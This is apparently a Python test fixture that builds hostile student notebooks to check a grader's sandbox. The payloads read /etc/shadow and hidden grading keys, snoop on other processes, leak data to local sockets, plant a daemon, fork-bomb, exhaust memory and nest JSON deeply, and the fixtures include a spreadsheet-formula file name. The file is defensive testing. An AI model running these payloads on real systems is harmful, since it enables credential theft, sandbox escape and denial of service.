"""Hostile submissions for the grader, written as a student who wants points or revenge.

Each attack is a notebook of the ``l90`` fixture lecture (see ``grading_fixtures.py``)
whose answers are *partial* (1 point of 4) and which earns the other points only when
its attack succeeds: a leaked key, a readable secret, a reachable socket. So the score
in the report is the attack's verdict. Other attacks target the run itself (a crash of
the grader, a process that outlives it, memory spread over several processes) or the
folder (links, folders, odd names), and have their own expected row.
"""

from __future__ import annotations

import os
import socket
from dataclasses import dataclass
from pathlib import Path

from grading_fixtures import PARTIAL, PERFECT, as_bytes, notebook

# The answers that a successful attack unlocks: the perfect ones for the other exercises.
WIN = "largest = states.nlargest(3, 'area')[['name', 'area']]\ncapital_kz = 'Астана'"
DAEMON_SECONDS = "8641.25"  # a unique argument, to find the daemon among the host's processes


def _gated(attack: str) -> bytes:
    """Partial answers, then ``attack``, which must set ``won = True`` to get the rest."""
    cell = f"won = False\n{attack}\nif won:\n" + "".join(f"    {line}\n" for line in
                                                          WIN.splitlines())
    return as_bytes(notebook(PARTIAL, end=[cell]))


def read_keys(keys: Path) -> str:
    """Look for the key file everywhere: given paths, sys.path, PYTHONPATH, /proc."""
    return f'''import glob, os, sys
places = [{str(keys)!r}] + list(sys.path) + os.environ.get("PYTHONPATH", "").split(":")
for place in places:
    for path in glob.glob(os.path.join(place or ".", "**", "l90.yaml"), recursive=True):
        try:
            open(path, encoding="utf-8").read()
            won = True
        except OSError:
            pass
try:
    import keys.l90  # a keys folder made importable by PYTHONPATH
    won = True
except Exception:
    pass'''


SHADOW = '''try:
    won = bool(open("/etc/shadow").read(1))
except OSError:
    pass'''

OTHER_PROCESSES = '''import os
mine = os.getpid()
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) > 2 and int(pid) != mine:
        try:
            if b"ca_course" in open(f"/proc/{pid}/cmdline", "rb").read() \\
                    or b"pytest" in open(f"/proc/{pid}/cmdline", "rb").read():
                won = True
        except OSError:
            pass'''

OTHER_KERNELS = '''import glob
for path in glob.glob("/tmp/ca-grade-*") + glob.glob("/tmp/*/ca-grade-*"):
    won = True'''


def network(udp_port: int, tcp_port: int, unix_path: str) -> str:
    """Send a UDP datagram, open a TCP connection and a UNIX socket connection to the host."""
    return f'''import socket
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"leak", ("127.0.0.1", {udp_port}))
except OSError:
    pass
try:
    socket.create_connection(("127.0.0.1", {tcp_port}), timeout=2).sendall(b"leak")
    won = True
except OSError:
    pass
try:
    u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    u.connect({unix_path!r})
    u.sendall(b"leak")
    won = True
except OSError:
    pass'''


DEEP_FRAME = '''import pandas as pd
class Deep(pd.DataFrame):
    def to_json(self, *args, **kwargs):
        return '{"columns":["a"],"index":[0],"data":' + "[" * 200000 + "]" * 200000 + "}"
largest = Deep({"a": [1]})'''

DEEP_FILE = '''import json
_dump = json.dump
def dump(obj, handle, *args, **kwargs):
    handle.write('{"largest": ' + "[" * 200000 + "]" * 200000 + "}")
json.dump = dump'''

FOREIGN_DTYPE = '''import pandas as pd
class Foreign(pd.DataFrame):  # claims dtypes whose casts would import missing libraries
    dtypes = property(lambda self: pd.Series(["pint[meter]", "geometry"]))
largest = Foreign(states.nlargest(3, "area")[["name", "area"]])'''

DAEMON = f'''import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "{DAEMON_SECONDS}"])
    os._exit(0)
time.sleep(0.5)'''

SPREAD_MEMORY = '''import os, time
children = []
for _ in range(4):  # each child stays under the per-process cap, together they do not
    pid = os.fork()
    if pid == 0:
        try:
            block = bytearray(150 * 2**20)
            for i in range(0, len(block), 4096):
                block[i] = 1
            time.sleep(20)
        finally:
            os._exit(0)
    children.append(pid)
time.sleep(4)'''

FORK_BOMB = '''import os, time
try:
    for _ in range(5000):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
except OSError:
    pass'''


@dataclass(frozen=True)
class Listener:
    """Sockets on the host that a contained kernel must not reach."""

    udp: socket.socket
    tcp: socket.socket
    unix: socket.socket
    unix_path: str

    def received(self) -> list[str]:
        """Return which of the sockets got anything (none must)."""
        got = []
        for name, sock in (("udp", self.udp), ("tcp", self.tcp), ("unix", self.unix)):
            sock.setblocking(False)
            try:
                if name == "udp":
                    sock.recvfrom(64)
                else:
                    sock.accept()
                got.append(name)
            except (BlockingIOError, OSError):
                pass
        return got

    def close(self) -> None:
        """Close every socket."""
        for sock in (self.udp, self.tcp, self.unix):
            sock.close()
        Path(self.unix_path).unlink(missing_ok=True)


def listen(folder: Path) -> Listener:
    """Open a UDP, a TCP and a UNIX listening socket on the host."""
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.bind(("127.0.0.1", 0))
    tcp.listen()
    path = str(folder / "host.sock")
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind(path)
    os.chmod(path, 0o777)
    unix.listen()
    return Listener(udp, tcp, unix, path)


# student id -> (expected status, expected total)
EXPECTED: dict[str, tuple[str, int]] = {
    "control_perfect": ("ok", 4),
    "control_partial": ("ok", 1),
    "keys_hunter": ("ok", 1),
    "shadow": ("ok", 1),
    "snoop_processes": ("ok", 1),
    "snoop_kernels": ("ok", 1),
    "network": ("ok", 1),
    "deep_frame": ("ok", 1),
    "deep_file": ("missing", 0),
    "foreign_dtype": ("ok", 3),      # right values: the foreign dtypes are ignored, not run
    "daemon": ("ok", 1),
    "spread_memory": ("memory", 1),
    "fork_bomb": ("ok", 1),
    "=HYPERLINK(\"x\")": ("ok", 4),
    "link_to_perfect": ("invalid", 0),
    "folder": ("invalid", 0),
    "fifo": ("invalid", 0),
    "notes.txt": ("invalid", 0),
    "hardlink": ("invalid", 0),
    "bad\\xffname": ("ok", 4),
}


def write(folder: Path, keys: Path, listener: Listener) -> None:
    """Write every hostile entry into ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    perfect = as_bytes(notebook(PERFECT))
    files = {
        "control_perfect": perfect,
        "control_partial": as_bytes(notebook(PARTIAL)),
        "keys_hunter": _gated(read_keys(keys)),
        "shadow": _gated(SHADOW),
        "snoop_processes": _gated(OTHER_PROCESSES),
        "snoop_kernels": _gated(OTHER_KERNELS),
        "network": _gated(network(listener.udp.getsockname()[1], listener.tcp.getsockname()[1],
                                  listener.unix_path)),
        "deep_frame": as_bytes(notebook(PARTIAL, end=[DEEP_FRAME])),
        "deep_file": as_bytes(notebook(PARTIAL, end=[DEEP_FILE])),
        "foreign_dtype": as_bytes(notebook(PARTIAL, end=[FOREIGN_DTYPE])),
        "daemon": as_bytes(notebook(PARTIAL, end=[DAEMON])),
        "spread_memory": as_bytes(notebook(PARTIAL, end=[SPREAD_MEMORY])),
        "fork_bomb": as_bytes(notebook(PARTIAL, end=[FORK_BOMB])),
        "=HYPERLINK(\"x\")": perfect,
    }
    for student, content in files.items():
        (folder / f"{student}.ipynb").write_bytes(content)
    (folder / "link_to_perfect.ipynb").symlink_to(folder / "control_perfect.ipynb")
    (folder / "folder.ipynb").mkdir()
    (folder / "folder.ipynb" / "inner.ipynb").write_bytes(perfect)
    os.mkfifo(folder / "fifo.ipynb")
    (folder / "notes.txt").write_text("not a notebook", encoding="utf-8")
    outside = folder.parent / "elsewhere.ipynb"
    outside.write_bytes(perfect)
    os.link(outside, folder / "hardlink.ipynb")
    with open(os.path.join(os.fsencode(folder), b"bad\xffname.ipynb"), "wb") as handle:
        handle.write(perfect)
